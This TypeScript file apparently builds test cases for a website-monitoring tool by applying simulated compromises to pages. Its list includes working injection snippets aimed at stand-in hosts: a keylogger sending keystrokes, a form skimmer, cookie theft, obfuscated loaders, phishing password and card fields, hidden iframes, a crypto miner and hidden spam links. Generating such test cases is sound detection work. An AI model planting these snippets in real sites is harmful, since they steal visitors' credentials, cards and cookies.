import { hex, paragraph, type Random, type Scene, type Style } from './scene.ts'

/** A change that nobody wanted. */
export interface BadChange {
  readonly name: string
  /** Whether a page of that style can suffer it. */
  readonly fits?: (style: Style) => boolean
  /** Makes the bad page; `page` renders the style's own frame with other content. */
  apply(html: string, random: Random, scene: Scene, page: (title: string, main: string) => string): string
  /** Where visitors end up instead. */
  readonly url?: string
  /** Whether it must also be seen while the page is still being learned. */
  readonly early?: boolean
  /** So large that it is shown once only. */
  readonly isHuge?: boolean
}

/** A page may well have neither head nor body in its source. */
const afterTitle = (html: string, add: string) => html.replace(/<\/title>/i, (tag) => tag + add)
const headEnd = (html: string, add: string) =>
  /<\/head>|<body/i.test(html) ? html.replace(/<\/head>|<body/i, (tag) => add + tag) : afterTitle(html, add)
const bodyEnd = (html: string, add: string) =>
  /<\/body>/i.test(html) ? html.replace(/<\/body>/i, (tag) => add + tag) : html + add
const bodyStart = (html: string, add: string) =>
  /<body/i.test(html) ? html.replace(/<body[^>]*>/i, (tag) => tag + add) : afterTitle(html, add)
const inText = (html: string, add: string) => {
  const places = [...html.matchAll(/<\/(?:p|h1|h2|figure|li)>/gi)]
  const place = places[Math.floor(places.length / 2)]
  return place === undefined
    ? bodyEnd(html, add)
    : html.slice(0, place.index + place[0].length) + add + html.slice(place.index + place[0].length)
}
const simple = (title: string, body: string) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`
const form = (style: Style) => style.has.form
const text = (style: Style) => style.has.text
const frameOf = (html: string) => ({ head: /^[\s\S]*?<body[^>]*>/i.exec(html)?.[0] ?? '' })
/** The last form of a page is the one that people write to. */
const lastForm = (html: string, change: (tag: string) => string) => {
  const tags = [...html.matchAll(/<form[^>]*>/gi)]
  const tag = tags.at(-1)
  return tag === undefined
    ? html
    : html.slice(0, tag.index) + change(tag[0]) + html.slice(tag.index + tag[0].length)
}
/** The last form that posts. */
const postForm = (html: string, change: (tag: string) => string) => {
  const tag = [...html.matchAll(/<form[^>]*method=["']?post[^>]*>/gi)].at(-1)
  return tag === undefined
    ? html
    : html.slice(0, tag.index) + change(tag[0]) + html.slice(tag.index + tag[0].length)
}
const setAction = (tag: string, action: string) =>
  /action=/i.test(tag)
    ? tag.replace(/action=("[^"]*"|'[^']*'|[^\s>]+)/i, `action="${action}"`)
    : tag.replace(/<form/i, `<form action="${action}"`)
const obfuscated = (random: Random) =>
  `var _0x${hex(random, 4)}=["\\x68\\x74\\x74\\x70\\x73\\x3A\\x2F","\\x73\\x63\\x72"];(function(_0x1a,_0x2b){var _0x3c=function(_0x4d){while(--_0x4d){_0x1a['push'](_0x1a['shift']());}};_0x3c(++_0x2b);}(_0x${hex(random, 4)},0x1f4));`

export const badChanges: readonly BadChange[] = [
  {
    name: '# three hundred times',
    fits: text,
    apply: (html) => inText(html, `<div>${'#'.repeat(300)}</div>`),
  },
  { name: '# in the title', apply: (html) => html.replace(/(<title[^>]*>)[^<]*/i, `$1${'#'.repeat(2000)}`) },
  {
    name: '# for every word',
    fits: (style) => style.has.text && style.name !== 'japanese',
    apply: (html) => html.replace(/>[^<]{4,}</g, (words) => words.replace(/\w+/g, '#')),
  },
  {
    name: 'own links led elsewhere',
    fits: (style) =>
      [
        'wordpress-post',
        'static-post',
        'next-blog',

        'latest-post',
        'shopify-product',
        'builder',
      ].includes(style.name),
    apply: (html, _random, scene) =>
      html
        .replaceAll(`https://${scene.domain}/`, '/')
        .replace(/(<a [^>]*href=["']?)[/#][^"'\s>]*/gi, '$1https://cheap.bad.example/go'),
  },
  {
    name: 'links of spammers in the footer',
    fits: text,
    apply: (html) =>
      bodyEnd(
        html,
        '<div class="foot"><a href="https://pills-24.example/">Cheap Viagra</a> <a href="https://bets-24.example/">Best online casino</a></div>',
      ),
  },
  {
    name: 'a module from elsewhere',
    apply: (html) =>
      bodyEnd(html, '<script type="module">import { run } from "https://bad.example/m.js"; run()</script>'),
  },
  {
    name: 'a script written by a script',
    apply: (html) =>
      headEnd(html, `<script>document.write('<scr'+'ipt src="//bad.example/w.js"></scr'+'ipt>')</script>`),
  },
  {
    name: 'a background without encryption',
    fits: (style) => style.name !== 'old-tables',
    apply: (html) => inText(html, '<div style="background:url(http://img.pictures.example/bg.jpg)">.</div>'),
  },
  {
    name: 'pictures without encryption in a set',
    fits: (style) => style.name !== 'old-tables',
    apply: (html) => inText(html, '<img srcset="http://img.pictures.example/a.jpg 1x" src="/a.jpg" alt="">'),
  },
  {
    name: 'hacked, under the same title',
    fits: text,
    apply: (html, _random, _scene, page) =>
      page(
        /<title[^>]*>([^<]*)/i.exec(html)?.[1] ?? '',
        '<h2>Hacked by NoName</h2><p>Your files are ours.</p>',
      ),
  },
  {
    name: 'another advertiser’s script',
    fits: (style) => style.name === 'small',
    apply: (html) =>
      html.replace(
        /<div class="ad">[\s\S]*?<\/div>/,
        '<div class="ad"><script src="https://trojan-ads.example/show.js"></script></div>',
      ),
  },
  // Scripts
  {
    name: 'a script from elsewhere in the head',
    apply: (html, random) =>
      headEnd(html, `<script src="https://cdn-${hex(random, 5)}.evil.example/jquery.min.js"></script>`),
  },
  {
    name: 'a script from elsewhere at the end',
    apply: (html) => bodyEnd(html, '<script async src="//stat.trackerr.example/s.js"></script>'),
  },
  {
    name: 'a script from elsewhere in the text',
    apply: (html) => inText(html, '<script src=https://bad.example/x></script>'),
  },
  {
    name: 'a script in an upper-case tag',
    apply: (html) => bodyEnd(html, '<SCRIPT SRC="HTTPS://BAD.EXAMPLE/X.JS"></SCRIPT>'),
  },
  {
    name: 'a script that is a data address',
    apply: (html) =>
      bodyEnd(
        html,
        '<script src="data:text/javascript;base64,ZXZhbChhdG9iKCdZV3hsY25Rb01TaycpKQ=="></script>',
      ),
  },
  {
    name: 'a script in a picture of lines',
    apply: (html) => inText(html, '<svg><script href="https://bad.example/svg.js"></script></svg>'),
  },
  {
    name: 'a script among the uploads',
    apply: (html) => bodyEnd(html, '<script src="/wp-content/uploads/2026/11/cache.js"></script>'),
  },
  {
    name: 'one more script of the site itself',
    apply: (html) => headEnd(html, '<script src="/js/slider-helper.js"></script>'),
  },
  {
    name: 'a script from a public place',
    apply: (html) =>
      bodyEnd(html, '<script src="https://cdn.jsdelivr.net/gh/someone/thing@1/p.js"></script>'),
  },
  {
    name: 'an unreadable script',
    early: true,
    apply: (html, random) => bodyEnd(html, `<script>${obfuscated(random)}</script>`),
  },
  {
    name: 'a script that decodes itself',
    early: true,
    apply: (html) =>
      bodyEnd(
        html,
        `<script>eval(atob("${Buffer.from('document.location="https://bad.example"').toString('base64')}"))</script>`,
      ),
  },
  {
    name: 'a script made of numbers',
    early: true,
    apply: (html) =>
      headEnd(
        html,
        '<script>var s=String.fromCharCode(60,115,99,114,105,112,116);document.write(s);</script>',
      ),
  },
  {
    name: 'a script that loads another',
    apply: (html) =>
      bodyEnd(
        html,
        `<script>(function(d){var s=d.createElement('script');s.src='https://bad.example/l.js';d.head.appendChild(s)})(document)</script>`,
      ),
  },
  {
    name: 'a script that loads another, in pieces',
    apply: (html) =>
      bodyEnd(
        html,
        `<script>(function(){var p='//'+'bad'+'.exam'+'ple/l.js';var s=document.createElement('scr'+'ipt');s.src=p;document.body.appendChild(s)})()</script>`,
      ),
  },
  {
    name: 'a script that listens to keys',
    apply: (html) =>
      bodyEnd(
        html,
        `<script>document.addEventListener('keydown',function(e){navigator.sendBeacon('https://collect.bad.example/k',e.key)})</script>`,
      ),
  },
  {
    name: 'a script that copies forms',
    apply: (html) =>
      bodyEnd(
        html,
        `<script>document.querySelectorAll('form').forEach(function(f){f.addEventListener('submit',function(){fetch('https://collect.bad.example/f',{method:'POST',body:new FormData(f)})})})</script>`,
      ),
  },
  {
    name: 'a script that computes for others',
    apply: (html) => bodyEnd(html, `<script>var miner=new CoinHive.Anonymous('KEY');miner.start();</script>`),
  },
  {
    name: 'a script that leads away',
    early: true,
    apply: (html) =>
      headEnd(
        html,
        `<script>if(/google|bing/.test(document.referrer)){window.location.href='https://spam.example/'}</script>`,
      ),
  },
  {
    name: 'a script that settles',
    early: true,
    apply: (html) =>
      bodyEnd(html, `<script>navigator.serviceWorker.register('/sw-x.js',{scope:'/'})</script>`),
  },
  { name: 'a small script', apply: (html) => bodyEnd(html, `<script>alert(document.domain)</script>`) },
  {
    name: 'code added to a script that was there',
    fits: (style) =>
      [
        'wordpress-post',
        'woo-category',
        'ghost-home',
        'news-front',
        'shopify-product',
        'checkout',
        'landing',
        'app-shell',
        'wiki',
        'builder',
      ].includes(style.name),
    apply: (html) =>
      html
        .replace(
          /<\/script>(?![\s\S]*<\/script>)/i,
          `;(function(){var i=new Image();i.src='https://collect.bad.example/?'+document.cookie;var s=document.createElement('script');s.src='https://collect.bad.example/a.js';document.head.appendChild(s)})();</script>`,
        )
        .replace(/(<script>)(?=[\s\S])/i, `$1eval(atob('YWxlcnQoMSk='));`),
  },
  {
    name: 'a handler of a broken picture',
    apply: (html) =>
      inText(
        html,
        `<img src=x onerror="var s=document.createElement('script');s.src='//bad.example/i.js';document.body.appendChild(s)">`,
      ),
  },
  {
    name: 'a handler of the page',
    early: true,
    apply: (html) =>
      (/<body/i.test(html) ? html : afterTitle(html, '<body>')).replace(
        /<body/i,
        `<body onload="location.replace('https://bad.example/')"`,
      ),
  },
  { name: 'a small handler', apply: (html) => inText(html, `<svg onload=alert(1)>`) },
  {
    name: 'a link that is a script',
    apply: (html) =>
      inText(html, `<a href="javascript:fetch('https://bad.example/?c='+document.cookie)">Read on</a>`),
  },
  {
    name: 'a link that is a disguised script',
    early: true,
    apply: (html) => inText(html, `<a href="  jav&#x09;ascript:eval(atob('YWxlcnQoMSk='))">Read on</a>`),
  },
  // Frames and styles
  {
    name: 'an invisible frame',
    apply: (html) =>
      bodyEnd(
        html,
        '<iframe src="https://bad.example/exploit" width="1" height="1" style="border:0"></iframe>',
      ),
  },
  {
    name: 'a hidden frame',
    apply: (html) =>
      bodyEnd(html, '<div style="display:none"><iframe src="//drive.bad.example/kit"></iframe></div>'),
  },
  {
    name: 'a frame moved out of sight',
    apply: (html) =>
      bodyStart(html, '<iframe src="https://bad.example/f" style="position:absolute;left:-9999px"></iframe>'),
  },
  {
    name: 'a frame over everything',
    apply: (html) =>
      bodyEnd(
        html,
        '<iframe src="https://prize.bad.example/win" style="position:fixed;inset:0;width:100%;height:100%;z-index:99999"></iframe>',
      ),
  },
  {
    name: 'a frame with a page in it',
    early: true,
    apply: (html) =>
      bodyEnd(
        html,
        `<iframe srcdoc="<script>parent.document.location='https://bad.example'</script>"></iframe>`,
      ),
  },
  {
    name: 'a style sheet from elsewhere',
    apply: (html) => headEnd(html, '<link rel="stylesheet" href="https://skin.bad.example/s.css">'),
  },
  {
    name: 'a style sheet imported from elsewhere',
    apply: (html) => headEnd(html, '<style>@import url("https://skin.bad.example/s.css");</style>'),
  },
  {
    name: 'an invisible picture',
    apply: (html) => bodyEnd(html, '<img src="https://pixel.bad.example/p.gif" width="1" height="1">'),
  },
  // Forms
  {
    name: 'a form that posts elsewhere',
    fits: form,
    early: true,
    apply: (html) => lastForm(html, (tag) => setAction(tag, 'https://collect.bad.example/post.php')),
  },
  {
    name: 'a form that posts to an address of numbers',
    fits: form,
    early: true,
    apply: (html) => lastForm(html, (tag) => setAction(tag, 'http://203.0.113.7/g.php')),
  },
  {
    name: 'a form that posts to a lookalike',
    fits: form,
    early: true,
    apply: (html, _random, scene) =>
      lastForm(html, (tag) => setAction(tag, `https://${scene.domain.replace('.', '-login.')}/login`)),
  },
  {
    name: 'a form that posts to another file',
    fits: (style) => style.has.form && style.has.post,
    apply: (html) => postForm(html, (tag) => setAction(tag, '/images/mailer.php')),
  },
  {
    name: 'a button that posts elsewhere',
    fits: form,
    early: true,
    apply: (html) =>
      lastForm(html, (tag) => `${tag}<button formaction="https://collect.bad.example/b">Go on</button>`),
  },
  {
    name: 'a form that shows what is typed in the address',
    fits: (style) => style.has.form && style.has.post,
    apply: (html) => postForm(html, (tag) => tag.replace(/method=("?)post\1/i, 'method="get"')),
  },
  {
    name: 'a form that asks for a password',
    fits: (style) => style.has.form && style.name !== 'checkout',
    early: true,
    apply: (html) => lastForm(html, (tag) => `${tag}<input type="password" name="pass">`),
  },
  {
    name: 'a form that asks for a card',
    fits: (style) => style.has.form && style.name !== 'checkout',
    early: true,
    apply: (html) => lastForm(html, (tag) => `${tag}<input name="cardnumber"><input name="cvv">`),
  },
  {
    name: 'a new login',
    fits: (style) => style.name !== 'checkout',
    early: true,
    apply: (html) =>
      bodyStart(
        html,
        '<div class="modal"><form action="/session-renew" method="post"><p>Your session has ended</p><input name="user"><input type="password" name="pw"></form></div>',
      ),
  },
  {
    name: 'a new form that posts elsewhere',
    apply: (html) =>
      bodyEnd(
        html,
        '<form action="https://collect.bad.example/survey" method="post"><input name="phone"></form>',
      ),
  },
  {
    name: 'a password field without a form',
    fits: (style) => style.name !== 'checkout',
    early: true,
    apply: (html) => bodyEnd(html, '<div class="overlay"><input type="password" id="p"></div>'),
  },
  // Head
  {
    name: 'a refresh to elsewhere',
    early: true,
    apply: (html) => headEnd(html, '<meta http-equiv="refresh" content="0;url=https://spam.example/">'),
  },
  {
    name: 'another base',
    early: true,
    apply: (html) => html.replace(/<title/i, '<base href="https://bad.example/"><title'),
  },
  {
    name: 'another true address',
    fits: (style) =>
      ['wordpress-post', 'ghost-home', 'shopify-product', 'woo-category', 'landing', 'builder'].includes(
        style.name,
      ),
    apply: (html) => html.replace(/(<link rel="canonical" href=")[^"]*/i, '$1https://casino-best.example/'),
  },
  {
    name: 'integrity taken away',
    fits: (style) => style.has.integrity,
    apply: (html) => html.replace(/ integrity="[^"]*"/gi, ''),
  },
  {
    name: 'a script without encryption',
    fits: (style) =>
      style.has.thirdParty &&
      !['old-tables', 'small'].includes(style.name) &&
      style.name !== 'shopify-product',
    early: true,
    apply: (html) => html.replace(/(<script[^>]*src=")https:/i, '$1http:'),
  },
  {
    name: 'a picture without encryption',
    fits: (style) => style.name !== 'old-tables',
    early: true,
    apply: (html) => inText(html, '<img src="http://static.pictures.example/cat.jpg" alt="A cat">'),
  },
  {
    name: 'a frame without encryption',
    apply: (html) => inText(html, '<iframe src="http://maps.places.example/embed?x=1"></iframe>'),
  },
  // Repetitions
  { name: '# in the text', early: true, apply: (html) => inText(html, `<p>${'#'.repeat(4000)}</p>`) },
  {
    name: '# a few hundred times',
    fits: text,
    apply: (html) => inText(html, `<div>${'#'.repeat(700)}</div>`),
  },
  { name: '# with spaces', early: true, apply: (html) => inText(html, `<p>${'# '.repeat(3000)}</p>`) },
  { name: '# line by line', early: true, apply: (html) => inText(html, '<p>#</p>\n'.repeat(3000)) },
  { name: '# in a list', apply: (html) => bodyEnd(html, `<ul>${'<li>#</li>'.repeat(2000)}</ul>`) },
  {
    name: '# instead of all',
    isHuge: true,
    early: true,
    apply: (html) => `${frameOf(html).head}${'#'.repeat(200_000)}</body></html>`,
  },
  { name: '# in links', apply: (html) => inText(html, '<a href="#">#</a> '.repeat(1500)) },
  { name: '## in elements in elements', apply: (html) => bodyEnd(html, '<div>## '.repeat(2000)) },
  {
    name: 'a sentence again and again',
    early: true,
    apply: (html) => inText(html, `<p>${'All your pages belong to us now. '.repeat(200)}</p>`),
  },
  {
    name: 'a paragraph again and again',
    early: true,
    apply: (html, random) => inText(html, `<p>${paragraph(random)}</p>`.repeat(150)),
  },
  {
    name: 'a sentence between all others',
    fits: (style) => ['wordpress-post', 'forum-thread', 'latest-post'].includes(style.name),
    apply: (html) =>
      html.replace(/<\/p>/gi, `</p>${'<p>Buy the best cheap watches here today.</p>'.repeat(8)}`),
  },
  {
    name: 'a box a thousand times',
    apply: (html) =>
      bodyEnd(html, '<div class="row"><h3>Undefined</h3><p>No items in this list yet</p></div>'.repeat(1000)),
  },
  {
    name: 'the page in itself',
    isHuge: true,
    fits: text,
    apply: (html) =>
      html.replace(
        /(<body[^>]*>)([\s\S]*?)(<\/body>|$)/i,
        (_all, start: string, body: string, end: string) => start + body.repeat(40) + end,
      ),
  },
  {
    name: 'four million bytes',
    isHuge: true,
    early: true,
    apply: (html, random) =>
      bodyEnd(
        html,
        Array.from(
          { length: 60_000 },
          (_, at) => `<div id="x${at}"><span>${hex(random, 30)}</span></div>`,
        ).join(''),
      ),
  },
  // What people read
  { name: 'nothing', early: true, apply: () => '' },
  { name: 'an empty page', early: true, apply: () => '<html><head></head><body></body></html>' },
  { name: 'only the head', fits: text, early: true, apply: (html) => `${frameOf(html).head}</body></html>` },
  {
    name: 'all text hidden',
    fits: text,
    apply: (html) => html.replace(/<body/i, '<body style="display:none"'),
  },
  { name: 'an empty main part', fits: text, apply: (_html, _random, scene, page) => page(scene.site, '') },
  {
    name: 'no database',
    early: true,
    fits: text,
    apply: () =>
      simple(
        'Database Error',
        '<div class="wp-die-message"><h1>Error establishing a database connection</h1></div>',
      ),
  },
  {
    name: 'a critical error',
    early: true,
    fits: text,
    apply: () =>
      simple(
        'WordPress › Error',
        '<div class="wp-die-message"><p>There has been a critical error on this website.</p><p><a href="https://wordpress.org/documentation/article/faq-troubleshooting/">Learn more about troubleshooting WordPress.</a></p></div>',
      ),
  },
  {
    name: 'a complaint of PHP',
    apply: (html) =>
      bodyStart(
        html,
        '<br />\n<b>Warning</b>:  Undefined variable $post in <b>/var/www/html/wp-content/themes/x/header.php</b> on line <b>12</b><br />\n',
      ),
  },
  {
    name: 'another server',
    early: true,
    fits: text,
    apply: () =>
      simple(
        'Welcome to nginx!',
        '<h1>Welcome to nginx!</h1><p>If you see this page, the nginx web server is successfully installed and working.</p>',
      ),
  },
  {
    name: 'a list of files',
    early: true,
    fits: text,
    apply: () =>
      simple(
        'Index of /',
        '<h1>Index of /</h1><pre><a href="wp-admin/">wp-admin/</a> 2026-11-20 10:00 -</pre>',
      ),
  },
  {
    name: 'hacked, with all replaced',
    early: true,
    apply: () =>
      simple(
        'HACKED BY DARK KITTENS',
        '<center><img src="https://i.imgstore.example/x.jpg"><h1>HACKED BY DARK KITTENS</h1><p>Your security is low. Greetz to all kittens.</p></center>',
      ),
  },
  {
    name: 'taken over, in other words',
    fits: text,
    apply: () =>
      simple(
        '::: we came at night :::',
        '<body bgcolor=black><font color=lime><h1>The wolves of the north</h1><p>Nothing you build will stay. We saw your door open and went in.</p></font>',
      ),
  },
  {
    name: 'taken over, in Arabic',
    fits: text,
    apply: () =>
      simple(
        'تم الاختراق',
        `<h1>تم اختراق هذا الموقع</h1><p>${'الأمن مجرد وهم وأنتم نائمون '.repeat(3)}</p>`,
      ),
  },
  {
    name: 'hacked, with the frame left',
    early: true,
    apply: (_html, _random, _scene, page) =>
      page(
        'Hacked by Team Zero',
        '<h1>Hacked by Team Zero</h1><p>We own this now. Contact zero@mail.example</p>',
      ),
  },
  {
    name: 'hacked, in the title alone',
    early: true,
    apply: (html) => html.replace(/(<title[^>]*>)[^<]*/i, '$1Hacked By X0r Crew'),
  },
  {
    name: 'hacked, at the top alone',
    apply: (html) => bodyStart(html, '<h1 style="color:red">Pwned by Anon Squad!</h1>'),
  },
  {
    name: 'a title that sells pills',
    fits: text,
    apply: (html) => html.replace(/(<title[^>]*>)[^<]*/i, '$1Buy Cheap Viagra Online - Best Pharmacy'),
  },
  {
    name: 'parked, for sale',
    early: true,
    apply: (_html, _random, scene) =>
      simple(
        scene.domain,
        `<h1>${scene.domain}</h1><p>This domain is for sale.</p><p>Related searches</p><ul><li><a href="/r?1">Web hosting</a></li><li><a href="/r?2">Credit cards</a></li></ul><script src="https://www.sedoparking.com/frmpark/js"></script>`,
      ),
  },
  {
    name: 'parked, by a registrar',
    fits: text,
    apply: (_html, _random, scene) =>
      simple(
        `${scene.domain} is parked`,
        `<p>This domain is parked free, courtesy of Somebody.</p><a href="https://somebody.example/buy">Get this domain</a>`,
      ),
  },
  {
    name: 'parked, without words',
    fits: text,
    apply: (_html, _random, scene) =>
      simple(
        scene.domain,
        `<div id="ads"></div><script>window.park = "eyJ1dWlkIjoi"; </script><script src="/bXYZ.js"></script>`,
      ),
  },
  {
    name: 'lapsed',
    fits: text,
    apply: (_html, _random, scene) =>
      simple(
        'Domain expired',
        `<p>The registration of ${scene.domain} has expired. If you are the owner, renew your domain.</p>`,
      ),
  },
  {
    name: 'not found, in the frame',
    fits: text,
    apply: (_html, _random, scene, page) =>
      page(
        `Page not found – ${scene.site}`,
        '<section class="error-404 not-found"><h1>Oops! That page can’t be found.</h1><p>It looks like nothing was found at this location.</p></section>',
      ),
  },
  {
    name: 'not found, in short',
    fits: text,
    apply: (_html, _random, scene, page) => page(`404 | ${scene.site}`, '<h1>404</h1><p>Sorry.</p>'),
  },
  {
    name: 'not found, in German',
    fits: text,
    apply: (_html, _random, scene, page) =>
      page(
        `Seite nicht gefunden – ${scene.site}`,
        '<h1>Ups!</h1><p>Diese Seite wurde leider nicht gefunden.</p>',
      ),
  },
  {
    name: 'not found, without the words',
    fits: (style) => style.has.text && style.name !== 'checkout',
    apply: (_html, _random, scene, page) =>
      page(`Hm. – ${scene.site}`, '<h1>Hm.</h1><p>You took a wrong turn. Go home and start again.</p>'),
  },
  {
    name: 'not found, without a frame',
    early: true,
    fits: text,
    apply: () =>
      simple('404 Not Found', '<h1>Not Found</h1><p>The requested URL was not found on this server.</p>'),
  },
  {
    name: 'suspended',
    early: true,
    fits: text,
    apply: () =>
      simple(
        'Account Suspended',
        '<h1>Account Suspended</h1><p>This account has been suspended. Contact your hosting provider for more information.</p>',
      ),
  },
  {
    name: 'somebody else’s site',
    early: true,
    url: 'https://other-site.example/',
    apply: (_html, random) => simple('Best deals', `<h1>Best deals</h1><p>${paragraph(random, 8)}</p>`),
  },
  {
    name: 'a page for people who bet',
    fits: text,
    apply: () =>
      simple(
        'SLOT GACOR 2026 | Situs Judi Online',
        `<header><img src="/logo.png"></header><h1>Situs Slot Gacor Terpercaya</h1>${'<p>Daftar slot online gampang menang hari ini dengan bonus besar untuk member baru.</p>'.repeat(3)}<a href="https://judi.example/daftar">Daftar</a>`,
      ),
  },
  // Links nobody sees
  {
    name: 'links moved out of sight',
    apply: (html) =>
      bodyEnd(
        html,
        '<div style="position:absolute; left:-9999px;"><a href="https://cheap-meds.example/">cheap pills</a> <a href="https://casino-win.example/">online casino</a></div>',
      ),
  },
  {
    name: 'links not displayed',
    apply: (html) =>
      bodyEnd(
        html,
        '<div style="display:none"><a href="https://payday.example/">payday loans</a><a href="https://replica.example/">replica watches</a></div>',
      ),
  },
  {
    name: 'links too small',
    apply: (html) =>
      bodyStart(html, '<p style="font-size:0px">see <a href="https://essays.example/">essay writing</a></p>'),
  },
  {
    name: 'links hidden by a style sheet',
    apply: (html) =>
      bodyEnd(
        headEnd(html, '<style>.zq81{position:absolute;left:-4000px}</style>'),
        '<div class="zq81"><a href="https://a1.example/">garden tools</a><a href="https://b2.example/">used cars</a></div>',
      ),
  },
  {
    name: 'links in no space',
    apply: (html) =>
      inText(html, '<div style="height:0;overflow:hidden"><a href="https://poker.example/">poker</a></div>'),
  },
  {
    name: 'the main part gone',
    fits: (style) =>
      [
        'wordpress-post',
        'ghost-home',
        'static-post',
        'woo-category',
        'landing',
        'shopify-product',
        'next-blog',
        'news-front',
      ].includes(style.name),
    apply: (html) => html.replace(/<main[\s\S]*<\/main>/i, ''),
  },
]
